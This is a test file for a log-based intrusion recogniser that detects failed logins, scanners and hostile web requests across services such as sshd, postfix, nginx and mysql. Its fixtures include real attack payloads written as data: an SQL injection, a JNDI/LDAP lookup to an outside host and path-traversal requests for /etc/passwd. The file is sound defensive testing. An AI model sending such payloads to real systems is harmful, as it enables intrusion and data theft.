import { describe, expect, it } from 'vitest';
import { compileRules, type Strictness } from '../rule/compile-rules.ts';
import { mergeRules, parseRules, readRules } from '../rule/read-rules.ts';
import { openRecogniser } from './recogniser.ts';

const shipped = readRules();
const open = (strictness?: Strictness) => {
  const recogniser = openRecogniser(compileRules(shipped, strictness));
  return { ...recogniser, see: (line: string) => recogniser.see(Buffer.from(line)) };
};
const requestLine = (request: string, more = '404 153 "-" "curl/8.5.0"') =>
  `192.0.2.7 - - [28/Nov/2026:10:00:00 +0100] "${request}" ${more}`;

describe('the shipped rules', () => {
  it.each([
    ['sshd', 'Nov 28 10:00:00 web1 sshd[99]: Failed password for root from 192.0.2.7 port 4711 ssh2'],
    ['dropbear', "Nov 28 10:00:00 ap dropbear[9]: Bad password attempt for 'root' from 192.0.2.7:4711"],
    [
      'dovecot',
      'Nov 28 10:00:00 mx dovecot: imap-login: Disconnected: Connection closed (auth failed, 2 attempts in 9 secs): user=<erika>, method=PLAIN, rip=192.0.2.7, lip=198.51.100.2, TLS',
    ],
    [
      'postfix',
      'Nov 28 10:00:00 mx postfix/smtpd[5]: warning: unknown[192.0.2.7]: SASL LOGIN authentication failed: UGFzc3dvcmQ6',
    ],
    [
      'mysql',
      "2026-11-28T10:00:00.000000Z 12 [Warning] Access denied for user 'root'@'192.0.2.7' (using password: YES)",
    ],
    [
      'nginx',
      '2026/11/28 10:00:00 [error] 12#12: *4 user "erika": password mismatch, client: 192.0.2.7, server: example.org, request: "GET /a HTTP/2.0", host: "example.org"',
    ],
    [
      'nextcloud',
      '{"reqId":"a1b2","level":2,"time":"2026-11-28T10:00:00+00:00","remoteAddr":"192.0.2.7","user":"--","app":"core","method":"POST","url":"/login","message":"Login failed: erika (Remote IP: 192.0.2.7)"}',
    ],
    [
      'postgresql',
      'Nov 28 10:00:00 db postgres[7]: FATAL:  no pg_hba.conf entry for host "192.0.2.7", user "root", database "shop", SSL off',
    ],
  ])('see an attempt at %s', (service, line) => {
    expect(open().see(line)).toMatchObject([{ service, peer: { address: '192.0.2.7' } }]);
  });

  it('count a line as often as syslog says it was repeated', () => {
    const line =
      'Nov 28 10:00:00 web1 sshd[99]: message repeated 4 times: [ Failed password for root from 192.0.2.7 port 4711 ssh2]';
    expect(open().see(line)).toMatchObject([{ service: 'sshd', weight: 4 }]);
  });

  it('read what the journal prints like a line of syslog', () => {
    const line = 'web1 sshd[99]: Invalid user admin from 2001:db8::7 port 4711';
    expect(open().see(line)).toMatchObject([{ class: 'unknown-user', fields: { user: 'admin' } }]);
  });

  it.each([
    [
      'a door that opened',
      'Nov 28 10:00:00 web1 sshd[99]: Accepted password for erika from 192.0.2.7 port 4711 ssh2',
    ],
    ['a page that was found', requestLine('GET /shop?page=2 HTTP/1.1', '200 812 "-" "Mozilla/5.0"')],
    [
      'a search for union and select',
      requestLine('GET /search?q=trade+union+members HTTP/1.1', '200 812 "-" "-"'),
    ],
    [
      'another program with the words of sshd',
      'Nov 28 10:00:00 web1 app[99]: Failed password for root from 192.0.2.7 port 4711 ssh2',
    ],
  ])('see nothing in %s', (_what, line) => {
    expect(open().see(line)).toEqual([]);
  });

  it.each([
    ['injection', 'GET /item?id=1%27%20UNION%20SELECT%20card%20FROM%20payment-- HTTP/1.1'],
    ['injection', 'GET /?x=$%7Bjndi:ldap://198.51.100.9/a} HTTP/1.1'],
    ['path-traversal', 'GET /static/..%2f..%2f..%2fetc/passwd HTTP/1.1'],
    ['path-traversal', 'GET /static/%252e%252e/%252e%252e/a HTTP/1.1'],
    ['path-traversal', 'GET /cgi-bin/..%c0%af..%c0%afwinnt HTTP/1.1'],
    ['scanner', 'GET /wp-login.php HTTP/1.1'],
    ['relay-probing', 'CONNECT mail.example.org:25 HTTP/1.1'],
  ])('see %s in %s', (what, request) => {
    expect(open().see(requestLine(request))).toMatchObject([{ class: what, peer: { address: '192.0.2.7' } }]);
  });
});

describe('the address of an innocent', () => {
  it('in X-Forwarded-For, behind the agent, is not the peer’s', () => {
    const line = `${requestLine('GET /wp-login.php HTTP/1.1')} "198.51.100.1, 203.0.113.5"`;
    expect(open().see(line)).toMatchObject([{ peer: { address: '192.0.2.7' } }]);
  });

  it.each([
    ['a user name with the words of sshd', 'no from 198.51.100.1 port 22 ssh2'],
    ['a user name with quotes', '" from 198.51.100.1'],
    ['a user name with a colon', 'x from 198.51.100.1 port 22 ssh2: RSA SHA256:abc'],
  ])('in %s is never counted', (_what, user) => {
    const line = `Nov 28 10:00:00 web1 sshd[99]: Failed password for invalid user ${user} from 192.0.2.7 port 4711 ssh2`;
    for (const sighting of open().see(line)) expect(sighting.peer).toEqual({ address: '192.0.2.7' });
  });

  it('in a user name and the path of a request is never counted', () => {
    const forged = '/": password mismatch, client: 198.51.100.1, server: s, request: "GET /';
    const line = `2026/11/28 10:00:00 [error] 12#12: *4 user "x": password mismatch, client: 192.0.2.7, server: s, request: "GET ${forged} HTTP/1.1", host: "h"`;
    const { see, unclear } = open();
    expect(see(line)).toEqual([]);
    expect(unclear()).toBe(1);
  });

  it('in the name of a site, a mail or a greeting is never counted', () => {
    const line =
      'Nov 28 10:00:00 mx postfix/smtpd[5]: NOQUEUE: reject: RCPT from unknown[192.0.2.7]: 554 5.7.1 <a@[198.51.100.1]>: Relay access denied; from=<x> to=<a@[198.51.100.1]> proto=ESMTP helo=<[198.51.100.1]>';
    expect(open().see(line)).toMatchObject([{ class: 'relay-probing', peer: { address: '192.0.2.7' } }]);
  });

  it('found by a name server is marked as a name, which proves nothing', () => {
    const line =
      'Nov 28 10:00:00 web1 sshd[9]: Failed password for root from host.example.org port 4711 ssh2';
    expect(open().see(line)).toMatchObject([{ peer: { name: 'host.example.org' } }]);
  });
});

describe('a session of many lines', () => {
  const see = (...lines: readonly string[]) => {
    const { see: one } = open();
    return lines.flatMap((line) => one(`Nov 28 10:00:00 web1 ${line}`));
  };

  it('tells of whom an attempt was, in a later line', () => {
    expect(
      see(
        'sshd[9]: Disconnecting: Too many authentication failures for root [preauth]',
        'sshd[9]: Connection closed by 192.0.2.7 [preauth]',
      ),
    ).toMatchObject([{ class: 'password-guessing', peer: { address: '192.0.2.7' } }]);
  });

  it('tells of whom an attempt was, in an earlier line', () => {
    expect(
      see(
        'slapd[3]: conn=7 fd=12 ACCEPT from IP=192.0.2.7:4711 (IP=0.0.0.0:636)',
        'slapd[3]: conn=7 op=1 RESULT tag=97 err=49 text=',
      ),
    ).toMatchObject([{ service: 'openldap', peer: { address: '192.0.2.7' } }]);
  });

  it('of another process says nothing', () => {
    expect(
      see(
        'sshd[8]: Connection closed by 198.51.100.1 [preauth]',
        'sshd[9]: Disconnecting: Too many authentication failures for root [preauth]',
      ),
    ).toEqual([]);
  });
});

describe('an operator’s own rules', () => {
  const own = `
service: kiosk
title: Our kiosk
program: [kiosk]
attacks:
  - class: password-guessing
    lines:
      - 'PIN <data> refused at <peer>'
---
limits:
  password-guessing: { any: ['2 in 1 min'] }
`;
  it('stand beside the shipped ones', () => {
    const rules = compileRules(mergeRules([shipped, parseRules(own, 'own.yaml')]));
    const line = 'Nov 28 10:00:00 shop kiosk[1]: PIN 0000 refused at 192.0.2.7';
    expect(openRecogniser(rules).see(Buffer.from(line))).toMatchObject([{ service: 'kiosk' }]);
    expect(rules.limits['unknown-user'].any).toEqual([{ count: 2, withinMs: 60_000 }]);
  });

  it.each([
    ['service: x1\ntitle: Kiosk\nattacks: []', /own.yaml, line 1: attacks/],
    [
      '\n\nservice: x1\ntitle: Kiosk\nprogramm: [a]\nattacks: [{ class: scanner, lines: a }]',
      /line 3: .*programm/,
    ],
    ['limits: { scanner: { any: [soon] } }', /5 in 10 s/],
    ['service: [', /line 1/],
  ])('are refused with the place and the reason', (text, reason) => {
    expect(() => parseRules(text, 'own.yaml')).toThrow(reason);
  });
});
